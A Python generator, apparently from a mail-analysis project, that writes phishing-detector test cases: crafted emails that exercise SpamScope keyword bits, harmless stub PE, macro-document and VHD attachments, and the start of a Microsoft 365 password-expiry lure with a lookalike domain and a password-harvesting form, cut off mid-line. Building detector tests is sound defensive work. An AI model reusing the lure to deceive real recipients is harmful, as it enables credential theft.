@@ -1,0 +1,1433 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: MIT
+"""Writes the phishing golden cases tests/cases/analyze_phish_*/.
+
+Each case is a realistic mail (Received chain, Message-ID, Date, MIME as
+real clients and bulk senders write it) and an expected.json that pins the
+`phishing` section of `mailscope analyze --no-spam`:
+
+* analyze_phish_bit_*: one SpamScope bit each (score, score_expanded,
+  targets, with_phishing). SpamScope's keyword semantics: a keyword line
+  of conf/phishing/brands.yml (or subjects.yml) matches when each of its
+  words occurs as a substring of the lower-cased text. The texts of these
+  mails are written so that no other line matches anywhere (beware of
+  substrings: "aws" in "laws", "irs" in "first", "chase" in "purchase",
+  "ing" and "bank" for ING, "ups" in "groups").
+* analyze_phish_signal_* and the lures: each detector signal of
+  src/analysis/phishing.c with a non-zero default weight fires in at
+  least one case (pinned with $contains on phishing.signals).
+* analyze_phish_benign_*: mails that must stay clean.
+
+Attacker infrastructure uses reserved or invented names (.example,
+example.net, ...); brands' real domains appear only where the mail really
+comes from the brand. Python 3 standard library, plus the Debian `zip`
+tool for the encrypted ZIP (skipped with a message when missing).
+
+    python3 tests/gen/phishing_cases.py   # rewrites analyze_phish_*
+    python3 tests/golden.py --bin build/mailscope --filter analyze_phish_
+"""
+import base64
+import io
+import json
+import os
+import quopri
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import zipfile
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+CASES = os.path.normpath(os.path.join(HERE, "..", "cases"))
+PREFIX = "analyze_phish_"
+CMD = ["analyze", "--no-spam"]
+WRITTEN = []
+
+# ---- MIME building ----------------------------------------------------------
+
+
+def enc_word(text):
+    """An RFC 2047 encoded word (UTF-8, base64) for non-ASCII text."""
+    if all(ord(c) < 128 for c in text):
+        return text
+    return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()
+
+
+def qp(text):
+    """Quoted-printable of UTF-8 text with CRLF line ends."""
+    data = text.replace("\r\n", "\n").encode()
+    out = quopri.encodestring(data)
+    return out.replace(b"\n", b"\r\n")
+
+
+def crlf(text):
+    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()
+
+
+class Part:
+    def __init__(self, headers, body=b"", children=None, boundary=None):
+        self.headers = headers
+        self.body = body
+        self.children = children or []
+        self.boundary = boundary
+
+    def bytes(self):
+        out = b"".join(crlf(h + "\n") for h in self.headers) + b"\r\n"
+        if not self.children:
+            return out + self.body
+        if self.body:
+            out += self.body
+        for c in self.children:
+            out += b"--" + self.boundary.encode() + b"\r\n" + c.bytes()
+            if not out.endswith(b"\r\n"):
+                out += b"\r\n"
+        out += b"--" + self.boundary.encode() + b"--\r\n"
+        return out
+
+
+def text_part(text, subtype="plain", cte="quoted-printable", charset="utf-8",
+              extra=()):
+    headers = ['Content-Type: text/%s; charset="%s"' % (subtype, charset),
+               "Content-Transfer-Encoding: %s" % cte] + list(extra)
+    if cte == "quoted-printable":
+        body = qp(text)
+    elif cte == "base64":
+        b = base64.b64encode(text.encode()).decode()
+        body = crlf("\n".join(b[i:i + 76] for i in range(0, len(b), 76)) +
+                    "\n")
+    else:
+        body = crlf(text)
+    if not body.endswith(b"\r\n"):
+        body += b"\r\n"
+    return Part(headers, body)
+
+
+def attachment(data, ctype, filename, inline=False):
+    b = base64.b64encode(data).decode()
+    body = crlf("\n".join(b[i:i + 76] for i in range(0, len(b), 76)) + "\n")
+    disp = "inline" if inline else "attachment"
+    return Part(['Content-Type: %s; name="%s"' % (ctype, filename),
+                 "Content-Transfer-Encoding: base64",
+                 'Content-Disposition: %s; filename="%s"' % (disp, filename)],
+                body)
+
+
+def multipart(subtype, children, boundary, preamble=False):
+    p = Part(['Content-Type: multipart/%s;\n\tboundary="%s"'
+              % (subtype, boundary)], children=children, boundary=boundary)
+    if preamble:
+        p.body = b"This is a multi-part message in MIME format.\r\n\r\n"
+    return p
+
+
+def received(hops):
+    """Received fields, topmost first: (from_helo, from_rdns, ip, by, with,
+    id, for, date)."""
+    out = []
+    for h in hops:
+        helo, rdns, ip, by, proto, qid, rcpt, date = h
+        s = "Received: from %s (%s [%s])\n\tby %s with %s id %s" % (
+            helo, rdns, ip, by, proto, qid)
+        if rcpt:
+            s += "\n\tfor <%s>" % rcpt
+        s += "; " + date
+        out.append(s)
+    return out
+
+
+def mail(headers, root):
+    """A whole message: headers (strings, in order) then the root part."""
+    top = list(headers) + ["MIME-Version: 1.0"] + root.headers
+    return Part(top, root.body, root.children, root.boundary).bytes()
+
+
+def write_case(name, data, expected, comment):
+    d = os.path.join(CASES, PREFIX + name)
+    os.makedirs(d, exist_ok=True)
+    with open(os.path.join(d, "mail.eml"), "wb") as f:
+        f.write(data)
+    exp = {"$command": CMD, "$comment": comment}
+    exp.update(expected)
+    with open(os.path.join(d, "expected.json"), "w", encoding="utf-8") as f:
+        json.dump(exp, f, indent=2, ensure_ascii=False)
+        f.write("\n")
+    WRITTEN.append(PREFIX + name)
+
+
+def signals(*names):
+    return {"$contains": [{"name": n} for n in names]}
+
+
+def no_signals(*names):
+    return {"$not_contains": [{"name": n} for n in names]}
+
+
+# ---- SpamScope's score, computed from the lists -----------------------------
+#
+# The expected bits of the analyze_phish_bit_* cases are written by hand;
+# spamscope() recomputes them from conf/phishing/brands.yml and
+# subjects.yml with SpamScope's own rule (each word of a keyword line a
+# substring of the text lowered with str.lower()), so a change of the lists
+# that would make a case wrong stops the generator instead of silently
+# breaking the case.
+
+CONF = os.path.normpath(os.path.join(HERE, "..", "..", "conf", "phishing"))
+
+
+def load_lists():
+    brands = []
+    name = None
+    with open(os.path.join(CONF, "brands.yml"), encoding="utf-8") as f:
+        for line in f:
+            m = re.match(r"^([^\s#][^:]*):\s*$", line)
+            if m:
+                name = m.group(1).strip().strip("'\"")
+                continue
+            m = re.match(r"^\s+keywords:\s*\[(.*)\]\s*$", line)
+            if m and name:
+                kws = [k.strip().strip("'\"") for k in m.group(1).split(",")]
+                brands.append((name, [k.split() for k in kws if k]))
+    subjects = []
+    with open(os.path.join(CONF, "subjects.yml"), encoding="utf-8") as f:
+        for line in f:
+            m = re.match(r"^- (.+?)\s*$", line)
+            if m:
+                subjects.append(m.group(1).strip("'\"").split())
+    return brands, subjects
+
+
+LISTS = None
+
+
+def spamscope(body=(), urls_body=(), att_text=(), urls_att=(), names=(),
+              from_=(), subject=""):
+    """SpamScope's score and targets of the given texts: body (text parts
+    as decoded, markup included), URLs (as normalized), text attachments,
+    attachment and archived names, the From header, the subject."""
+    global LISTS
+    if LISTS is None:
+        LISTS = load_lists()
+    brands, subjects = LISTS
+    score, targets = 0, []
+    fields = [(0, body, True), (1, urls_body, False), (2, att_text, True),
+              (3, urls_att, False), (4, names, True), (5, from_, True)]
+    for bit, texts, target in fields:
+        text = "\n".join(texts).lower()
+        for name, lines in brands:
+            if any(all(w in text for w in ln) for ln in lines):
+                score |= 1 << bit
+                if not target:
+                    break
+                if name not in targets:
+                    targets.append(name)
+    low = subject.lower()
+    if any(all(w in low for w in ln) for ln in subjects):
+        score |= 1 << 6
+    if any("<form" in t.lower() for t in body):
+        score |= 1 << 7
+    return score, targets
+
+
+BIT_NAMES = ["mail_body", "urls_body", "text_attachments", "urls_attachments",
+             "filename_attachments", "mail_from", "mail_subject", "mail_form"]
+
+
+def bits(score, names, targets, with_phishing, texts=None):
+    """The pinned SpamScope fields; with texts (the keyword arguments of
+    spamscope()), checked against the lists first."""
+    assert names == [BIT_NAMES[i] for i in range(8) if score >> i & 1]
+    if texts is not None:
+        got = spamscope(**texts)
+        if got != (score, targets):
+            sys.exit("SpamScope check: expected %r, the lists give %r"
+                     % ((score, targets), got))
+    return {"score": score, "score_expanded": names, "targets": targets,
+            "with_phishing": with_phishing}
+
+
+# ---- files ------------------------------------------------------------------
+
+FIXED = (2024, 3, 14, 9, 30, 0)
+
+
+def make_zip(files):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in files:
+            z.writestr(zipfile.ZipInfo(name, FIXED), data,
+                       zipfile.ZIP_DEFLATED)
+    return buf.getvalue()
+
+
+def make_zip_encrypted(files, password):
+    """ZipCrypto-encrypted ZIP made with Info-ZIP's zip (the stdlib only
+    reads them). None when zip is missing."""
+    if shutil.which("zip") is None:
+        return None
+    with tempfile.TemporaryDirectory() as tmp:
+        names = []
+        for name, data in files:
+            with open(os.path.join(tmp, name), "wb") as f:
+                f.write(data)
+            os.utime(os.path.join(tmp, name), (1710408600, 1710408600))
+            names.append(name)
+        subprocess.run(["zip", "-q", "-X", "-P", password, "out.zip"] + names,
+                       cwd=tmp, check=True)
+        with open(os.path.join(tmp, "out.zip"), "rb") as f:
+            return f.read()
+
+
+def pdf(objects, root=1):
+    """A PDF with a cross-reference table, from object bodies (str)."""
+    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
+    offsets = []
+    for i, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % i + body.encode("latin-1") + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    for o in offsets:
+        out += b"%010d 00000 n \n" % o
+    out += (b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
+            % (len(objects) + 1, root, xref))
+    return out
+
+
+def pdf_page(text, extra_page="", extra_objs=()):
+    stream = "BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text
+    objs = [
+        "<< /Type /Catalog /Pages 2 0 R >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
+        "/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>%s >>"
+        % extra_page,
+        "<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
+        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    return objs + list(extra_objs)
+
+
+def pe_file():
+    """A minimal PE image: DOS header with e_lfanew, PE signature, COFF
+    header (i386, no sections) and the start of an optional header."""
+    dos = bytearray(64)
+    dos[0:2] = b"MZ"
+    dos[0x3c:0x40] = (0x80).to_bytes(4, "little")
+    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21" \
+        b"This program cannot be run in DOS mode.\r\r\n$"
+    body = bytes(dos) + stub
+    body += bytes(0x80 - len(body))
+    coff = b"PE\x00\x00" + (0x14c).to_bytes(2, "little") + b"\x00\x00" + \
+        (1710408600).to_bytes(4, "little") + bytes(8) + \
+        (0xe0).to_bytes(2, "little") + (0x0102).to_bytes(2, "little")
+    opt = (0x10b).to_bytes(2, "little") + bytes(0xe0 - 2)
+    return body + coff + opt + bytes(512)
+
+
+def docm_file():
+    """A Word document with macros: OOXML with word/vbaProject.bin."""
+    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+          'content-types"><Default Extension="rels" ContentType="application/'
+          'vnd.openxmlformats-package.relationships+xml"/><Default Extension='
+          '"bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+          '<Override PartName="/word/document.xml" ContentType="application/'
+          'vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            '2006/relationships"><Relationship Id="rId1" Type="http://'
+            'schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            'officeDocument" Target="word/document.xml"/></Relationships>')
+    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+           '<w:document xmlns:w="http://schemas.openxmlformats.org/'
+           'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>This document '
+           'was created in an earlier version. Enable editing and enable '
+           'content to view it.</w:t></w:r></w:p></w:body></w:document>')
+    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + \
+        b"Attribute VB_Name = \"ThisDocument\"\r\n" \
+        b"Sub AutoOpen()\r\nEnd Sub\r\n"
+    return make_zip([("[Content_Types].xml", ct), ("_rels/.rels", rels),
+                     ("word/document.xml", doc),
+                     ("word/vbaProject.bin", vba)])
+
+
+def vhd_file():
+    """A fixed VHD: 512 bytes of disk, then the 512-byte footer that starts
+    with the cookie "conectix"."""
+    footer = bytearray(512)
+    footer[0:8] = b"conectix"
+    footer[8:12] = (2).to_bytes(4, "big")          # features: reserved
+    footer[12:16] = (0x00010000).to_bytes(4, "big")  # format version
+    footer[16:24] = (0xFFFFFFFFFFFFFFFF).to_bytes(8, "big")  # fixed disk
+    footer[28:32] = b"win "
+    footer[40:48] = (512).to_bytes(8, "big")
+    footer[48:56] = (512).to_bytes(8, "big")
+    footer[60:64] = (2).to_bytes(4, "big")         # type: fixed
+    return bytes(512) + bytes(footer)
+
+
+# ---- common headers ---------------------------------------------------------
+
+VICTIM = "jane.doe@example.com"
+
+
+def inbound(sender_helo, sender_ip, date, qid="4Tw7Qk1Zb3z9sKp", extra=()):
+    """The receiving side: the organisation's MX (Postfix with amavis) and
+    the mailbox server, topmost first."""
+    return received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "1F0C2A0310",
+         VICTIM, date),
+        (sender_helo[0], sender_helo[1], sender_ip,
+         "mx1.example.com (Postfix)", "ESMTPS", qid, VICTIM, date),
+    ]) + list(extra)
+
+
+def auth(result):
+    return ("Authentication-Results: mx1.example.com;\n\t%s" % result)
+
+
+# ---- 1. SpamScope bits, one at a time ---------------------------------------
+
+def bit_mail_body():
+    date = "Tue, 12 Mar 2024 18:04:51 +0100"
+    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
+                date) + [
+        auth("spf=pass smtp.mailfrom=example.org;\n\tdkim=pass "
+             "header.d=example.org;\n\tdmarc=pass header.from=example.org"),
+        "Message-ID: <8d1c2f0e-5b7a-4c2e-9a51-3f0d1e6b7c21@example.org>",
+        "Date: " + date,
+        "From: Mark Jensen <mark.jensen@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Re: movie night on Friday",
+        "In-Reply-To: <CAF7q2Lw1x@mail.example.com>",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    text = ("Hi Jane,\n\nFriday works for us. We could watch the new series "
+            "on\nNetflix at our place, Tom will bring the snacks.\n\nSee you "
+            "then,\nMark\n")
+    body = text_part(text, cte="7bit")
+    write_case("bit_mail_body", mail(h, body), {"phishing": dict(
+        bits(1, ["mail_body"], ["Netflix"], False, dict(
+            body=[text], from_=["Mark Jensen <mark.jensen@example.org>"],
+            subject="Re: movie night on Friday")), verdict="clean")},
+        "SpamScope bit 0 alone: the plain body names Netflix (a target's "
+        "keyword line 'netflix'); no URL, so with_phishing is false "
+        "(score != 0 and a URL). Nothing else matches: From, subject and "
+        "attachments hold no keyword. A friend naming a brand is no lure: "
+        "the detector stays clean.")
+
+
+def bit_urls_body():
+    date = "Wed, 13 Mar 2024 10:12:03 +0000"
+    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
+                date) + [
+        "Message-ID: <20240313101203.5512@example.org>",
+        "Date: " + date,
+        "From: Priya Raman <priya.raman@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Slides for Thursday",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    text = ("Hi Jane,\n\nthe slides for Thursday are here:\n"
+            "https://files.example.net/s/q1-planning/%64ropbox-export.pdf\n\n"
+            "Cheers,\nPriya\n")
+    body = text_part(text, cte="7bit")
+    write_case("bit_urls_body", mail(h, body), {"phishing": bits(
+        2, ["urls_body"], [], True, dict(
+            body=[text], urls_body=["https://files.example.net/s/q1-planning/"
+                                    "dropbox-export.pdf"],
+            from_=["Priya Raman <priya.raman@example.org>"],
+            subject="Slides for Thursday"))},
+        "SpamScope bit 1 alone: the body's URL spells its first letter "
+        "percent-encoded (%64 is 'd'); the body text holds '%64ropbox', so "
+        "the body bit stays off, while the URL as normalized (RFC 3986 "
+        "6.2.2.2: encoded unreserved characters are decoded) holds "
+        "'dropbox', Dropbox's keyword. URL bits add no target.")
+
+
+def bit_text_attachment():
+    date = "Thu, 14 Mar 2024 16:45:10 +0000"
+    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
+                date) + [
+        "Message-ID: <5f0b9e52-11c4-4b8e-8f0e-2a3c4d5e6f70@example.org>",
+        "Date: " + date,
+        "From: Priya Raman <priya.raman@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Notes from today's call",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    notes = ("Call with Northwind, 14 March\n\n- contract signed through "
+             "DocuSign yesterday\n- kickoff on 2 April\n- Priya sends the "
+             "plan by Friday\n")
+    text = "Hi Jane,\n\nmy notes from the call are attached.\n\nPriya\n"
+    root = multipart("mixed", [
+        text_part(text, cte="7bit"),
+        attachment(notes.encode(), "text/plain", "call-notes.txt"),
+    ], "------------3Ck8u0Y2Z9aJbQf1VvWx", preamble=True)
+    write_case("bit_text_attachment", mail(h, root), {"phishing": bits(
+        4, ["text_attachments"], ["DocuSign"], False, dict(
+            body=[text], att_text=[notes], names=["call-notes.txt"],
+            from_=["Priya Raman <priya.raman@example.org>"],
+            subject="Notes from today's call"))},
+        "SpamScope bit 2 alone: the text/plain attachment names DocuSign; "
+        "the body, the name call-notes.txt, From and subject hold no "
+        "keyword, and no URL is in the mail.")
+
+
+def bit_urls_attachment():
+    date = "Fri, 15 Mar 2024 08:20:44 +0000"
+    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
+                date) + [
+        "Message-ID: <0c9d8e7f-6a5b-4c3d-2e1f-0a9b8c7d6e5f@example.org>",
+        "Date: " + date,
+        "From: Priya Raman <priya.raman@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Q1 report",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    doc = pdf(pdf_page("Q1 report - figures on the linked sheet",
+                       " /Annots [6 0 R]",
+                       ["<< /Type /Annot /Subtype /Link /Rect [72 700 300 "
+                        "716] /Border [0 0 0] /A << /S /URI /URI (https://"
+                        "files.example.net/dropbox/q1-figures.xlsx) >> >>"]))
+    text = "Hi Jane,\n\nthe Q1 report is attached.\n\nPriya\n"
+    root = multipart("mixed", [
+        text_part(text, cte="7bit"),
+        attachment(doc, "application/pdf", "Q1-report.pdf"),
+    ], "------------aB3dE5fG7hI9jK1lM3nO", preamble=True)
+    write_case("bit_urls_attachment", mail(h, root), {"phishing": bits(
+        8, ["urls_attachments"], [], True, dict(
+            body=[text], urls_att=["https://files.example.net/dropbox/"
+                                   "q1-figures.xlsx"],
+            names=["Q1-report.pdf"],
+            from_=["Priya Raman <priya.raman@example.org>"],
+            subject="Q1 report"))},
+        "SpamScope bit 3 alone: the PDF attachment's link annotation "
+        "(/URI) points to a path holding 'dropbox'. A PDF is not a text "
+        "attachment, so its bytes set no bit 2; its name holds no keyword.")
+
+
+def bit_filename():
+    date = "Mon, 18 Mar 2024 11:02:37 +0000"
+    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
+                date) + [
+        "Message-ID: <a1b2c3d4-0001-4e5f-8a9b-c0d1e2f3a4b5@example.org>",
+        "Date: " + date,
+        "From: Tom Berger <tom.berger@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: February statement for the club account",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    doc = pdf(pdf_page("Statement February 2024"))
+    text = ("Hi Jane,\n\nhere is the February statement for the club "
+            "account, as you asked.\n\nTom\n")
+    root = multipart("mixed", [
+        text_part(text, cte="7bit"),
+        attachment(doc, "application/pdf", "PayPal-Statement-2024-02.pdf"),
+    ], "------------Zx9Yw8Vu7Ts6Rq5Po4Nm", preamble=True)
+    write_case("bit_filename_attachment", mail(h, root), {"phishing": bits(
+        16, ["filename_attachments"], ["PayPal"], False, dict(
+            body=[text], names=["PayPal-Statement-2024-02.pdf"],
+            from_=["Tom Berger <tom.berger@example.org>"],
+            subject="February statement for the club account"))},
+        "SpamScope bit 4 alone: the attachment's name holds 'paypal'. The "
+        "PDF holds no link and is not text; body, From and subject hold no "
+        "keyword.")
+
+
+def bit_filename_in_zip():
+    date = "Mon, 18 Mar 2024 14:31:09 +0000"
+    h = inbound(("mail.example.org", "mail.example.org"), "198.51.100.14",
+                date) + [
+        "Message-ID: <a1b2c3d4-0002-4e5f-8a9b-c0d1e2f3a4b5@example.org>",
+        "Date: " + date,
+        "From: Tom Berger <tom.berger@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Signed lease, scanned",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    z = make_zip([("DocuSign_Envelope_7F3A.pdf",
+                   pdf(pdf_page("Lease agreement - signed")))])
+    text = "Hi Jane,\n\nthe signed lease is in the zip.\n\nTom\n"
+    root = multipart("mixed", [
+        text_part(text, cte="7bit"),
+        attachment(z, "application/zip", "lease-scans.zip"),
+    ], "------------Qw1Er2Ty3Ui4Op5As6Df", preamble=True)
+    write_case("bit_filename_in_zip", mail(h, root), {"phishing": bits(
+        16, ["filename_attachments"], ["DocuSign"], False, dict(
+            body=[text], names=["lease-scans.zip",
+                                "DocuSign_Envelope_7F3A.pdf"],
+            from_=["Tom Berger <tom.berger@example.org>"],
+            subject="Signed lease, scanned"))},
+        "SpamScope bit 4 from an archived name: the attachment lease-"
+        "scans.zip holds DocuSign_Envelope_7F3A.pdf; the names of files "
+        "inside archives count like attachment names.")
+
+
+def bit_mail_from():
+    date = "Tue, 19 Mar 2024 07:55:12 +0000"
+    h = received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "7A1D2B0411", VICTIM, date),
+        ("mail-a12.spotify.com", "mail-a12.spotify.com", "203.0.113.80",
+         "mx1.example.com (Postfix)", "ESMTPS", "4TxK2m0Qz1z1", VICTIM, date),
+    ]) + [
+        auth("spf=pass smtp.mailfrom=spotify.com;\n\tdkim=pass "
+             "header.d=spotify.com;\n\tdmarc=pass header.from=spotify.com"),
+        "Message-ID: <0100018e5a3c7f21-6b1f2e3d@email.spotify.com>",
+        "Date: " + date,
+        "From: Spotify <no-reply@spotify.com>",
+        "To: %s" % VICTIM,
+        "Subject: Your password was changed",
+    ]
+    text = ("Hi Jane,\n\nThe password for your account was changed on 19 "
+            "March 2024 at 07:54 (UTC).\n\nIf this was you, there is nothing "
+            "else to do.\n\nIf it was not you, reply to this message and we "
+            "will help you get your account back.\n")
+    body = text_part(text, cte="7bit")
+    write_case("bit_mail_from", mail(h, body), {"phishing": dict(
+        bits(32, ["mail_from"], ["Spotify"], False, dict(
+            body=[text], from_=["Spotify <no-reply@spotify.com>"],
+            subject="Your password was changed")), verdict="clean")},
+        "SpamScope bit 5 alone: the From header names Spotify; the body "
+        "holds no keyword and no URL. The sender is Spotify's own domain, "
+        "so the detector finds nothing.")
+
+
+def bit_mail_subject():
+    date = "Wed, 20 Mar 2024 13:40:02 +0000"
+    h = inbound(("pbx.example.com", "pbx.example.com"), "192.0.2.60",
+                date) + [
+        "Message-ID: <vm-20240320134002-0143@pbx.example.com>",
+        "Date: " + date,
+        "From: Phone System <pbx@example.com>",
+        "To: %s" % VICTIM,
+        "Subject: Voicemail from +1 555 0143 (0:42)",
+    ]
+    text = ("You have a new message in box 2204.\n\nCaller: +1 555 0143\n"
+            "Length: 0:42\n\nPlay it in the browser:\n"
+            "https://pbx.example.com/vm/2204/0143\n")
+    body = text_part(text, cte="7bit")
+    write_case("bit_mail_subject", mail(h, body), {"phishing": bits(
+        64, ["mail_subject"], [], True, dict(
+            body=[text], urls_body=["https://pbx.example.com/vm/2204/0143"],
+            from_=["Phone System <pbx@example.com>"],
+            subject="Voicemail from +1 555 0143 (0:42)"))},
+        "SpamScope bit 6 alone: the subject holds 'voicemail', a line of "
+        "conf/phishing/subjects.yml. The subject adds no target; the mail "
+        "has a URL, so with_phishing is true.")
+
+
+def bit_mail_form():
+    date = "Thu, 21 Mar 2024 09:00:00 +0000"
+    h = inbound(("out.northwind-hotels.example", "out.northwind-hotels."
+                 "example"), "203.0.113.45", date) + [
+        "Message-ID: <stay-88127.feedback@northwind-hotels.example>",
+        "Date: " + date,
+        "From: Northwind Hotels <guest-feedback@northwind-hotels.example>",
+        "To: %s" % VICTIM,
+        "Subject: How was your stay in Lisbon?",
+    ]
+    html = ("<html><body>\n<p>Dear Jane,</p>\n<p>Thank you for staying with "
+            "us in Lisbon from 17 to 20 March. How would you rate your "
+            "room?</p>\n<form action=\"https://survey.northwind-hotels."
+            "example/r/88127\" method=\"get\">\n<label><input type=\"radio\" "
+            "name=\"r\" value=\"5\"> Excellent</label>\n<label><input type="
+            "\"radio\" name=\"r\" value=\"3\"> Good</label>\n<label><input "
+            "type=\"radio\" name=\"r\" value=\"1\"> Poor</label>\n<input "
+            "type=\"submit\" value=\"Send\">\n</form>\n<p>Northwind Hotels, "
+            "Rua Augusta 100, Lisbon</p>\n</body></html>\n")
+    text = ("Dear Jane,\n\nThank you for staying with us in Lisbon from 17 "
+            "to 20 March. Rate your room:\nhttps://survey.northwind-hotels."
+            "example/r/88127\n")
+    root = multipart("alternative", [
+        text_part(text, cte="7bit"),
+        text_part(html, "html"),
+    ], "b1_7f3c2e1d0a9b8c7d6e5f4a3b2c1d0e9f")
+    write_case("bit_mail_form", mail(h, root), {"phishing": dict(
+        bits(128, ["mail_form"], [], True, dict(
+            body=[text, html],
+            urls_body=["https://survey.northwind-hotels.example/r/88127"],
+            from_=["Northwind Hotels <guest-feedback@northwind-hotels."
+                   "example>"],
+            subject="How was your stay in Lisbon?")),
+        signals=no_signals("form_in_body", "credential_form"))},
+        "SpamScope bit 7 alone: the HTML body holds a <form> (a rating "
+        "survey, no password field). form_in_body has weight 0 by default, "
+        "so it is not listed; no password field, so no credential_form.")
+
+
+def bit_mail_body_words_apart():
+    date = "Fri, 22 Mar 2024 12:00:31 +0000"
+    h = inbound(("mail.example.com", "mail.example.com"), "192.0.2.10",
+                date) + [
+        "Message-ID: <facilities-2024-03-22.1@example.com>",
+        "Date: " + date,
+        "From: Facilities <facilities@example.com>",
+        "To: all-staff@example.com",
+        "Subject: Closed on Monday; new archive rules",
+    ]
+    text = ("Hi all,\n\nthe Office will be closed on Monday. From Tuesday "
+            "the archive keeps\nmail for 365 days instead of 90.\n\n"
+            "Facilities\n")
+    body = text_part(text, cte="7bit")
+    write_case("bit_mail_body_words_apart", mail(h, body), {"phishing": dict(
+        bits(1, ["mail_body"], ["Microsoft"], False, dict(
+            body=[text], from_=["Facilities <facilities@example.com>"],
+            subject="Closed on Monday; new archive rules")),
+        verdict="clean")},
+        "SpamScope's keyword semantics: Microsoft's line 'office 365' "
+        "matches when 'office' and '365' each occur in the lower-cased "
+        "body, anywhere and in any order ('the Office will be closed', "
+        "'365 days'); they need not be a phrase.")
+
+
+def bit_mail_subject_accented():
+    date = "Sat, 23 Mar 2024 08:15:00 +0100"
+    h = inbound(("smtp.example.fr", "smtp.example.fr"), "198.51.100.44",
+                date) + [
+        "Message-ID: <20240323081500.4471@example.fr>",
+        "Date: " + date,
+        "From: Service clients <notifications@example.fr>",
+        "To: %s" % VICTIM,
+        "Subject: " + enc_word("ACTIVITÉ SUSPECTE sur votre compte client"),
+    ]
+    text = ("Bonjour,\n\nnous avons remarqué une connexion depuis un nouvel "
+            "appareil. Si\nc'était vous, ignorez ce message.\n\nLe service "
+            "clients\n")
+    body = text_part(text)
+    write_case("bit_mail_subject_accented", mail(h, body), {"phishing": bits(
+        64, ["mail_subject"], [], False, dict(
+            body=[text],
+            from_=["Service clients <notifications@example.fr>"],
+            subject="ACTIVITÉ SUSPECTE sur votre compte client"))},
+        "SpamScope bit 6 with a non-ASCII capital: the subject (RFC 2047, "
+        "UTF-8) 'ACTIVITÉ SUSPECTE ...' lower-cases (Python's str.lower(), "
+        "as SpamScope does) to 'activité suspecte', a French line of "
+        "subjects.yml. No URL: with_phishing is false.")
+
+
+# ---- 4. full lures ----------------------------------------------------------
+
+def m365_password_expiry():
+    date = "Mon, 25 Mar 2024 06:12:45 +0000"
+    h = inbound(("mail.micros0ft-online.com", "vps-21187.example.net"),
+                "203.0.113.199", date) + [
+        auth("spf=softfail (domain of transitioning micros0ft-online.com "
+             "does not designate 203.0.113.199 as permitted sender)\n\t"
+             "smtp.mailfrom=micros0ft-online.com;\n\tdkim=none;\n\t"
+             "dmarc=fail (p=NONE) header.from=micros0ft-online.com"),
+        "Message-ID: <20240325061245.2F7A1C@mail.micros0ft-online.com>",
+        "Date: " + date,
+        "From: Microsoft 365 Admin <no-reply@micros0ft-online.com>",
+        "Reply-To: it-support@example-helpdesk.net",
+        "To: %s" % VICTIM,
+        "Subject: Action Required: Your password expires today",
+        "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
+    ]
+    action = "https://login.micros0ft-online.com/common/oauth2/keep.php"
+    html = (
+        "<html><head><meta charset=\"utf-8\"></head><body style=\"font-family:"
+        "Segoe UI,Arial,sans-serif\">\n<h2>Microsoft 365</h2>\n<p>Hello "
+        "Jane,</p>\n<p>The password of your account " + VICTIM + " will "
+        "expire within 24 hours. After that you will be signed out of "
+        "Outlook and Teams.</p>\n<p>To keep your current password, confirm "
+        "it below. Your password expires today.</p>\n<form action=\"" +
+        action + "\" method=\"post\">\n<input type=\"email\" name=\"login\" "
+        "value=\"" + VICTIM + "\"><br>\n<input type=\"password\" name=\""
